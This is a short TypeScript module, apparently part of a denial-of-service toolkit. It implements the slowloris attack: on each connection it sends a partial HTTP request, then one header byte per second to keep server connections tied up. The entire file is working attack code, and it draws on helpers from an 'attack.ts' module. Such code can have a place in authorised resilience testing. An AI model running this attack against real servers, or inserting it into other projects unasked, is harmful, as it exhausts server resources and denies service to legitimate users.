import { type AttackOptions, onEachConnection, repeat } from "./attack.ts";

/** Sends one byte of a header per second (slowloris). */
export function slowHeaders(options: AttackOptions): Promise<void> {
  const { path = "/" } = options;
  return onEachConnection(options, (socket) => {
    socket.write(`GET ${path} HTTP/1.1\r\nHost: x\r\nX: `);
    return repeat(socket, 1000, () => socket.write("x"));
  });
}
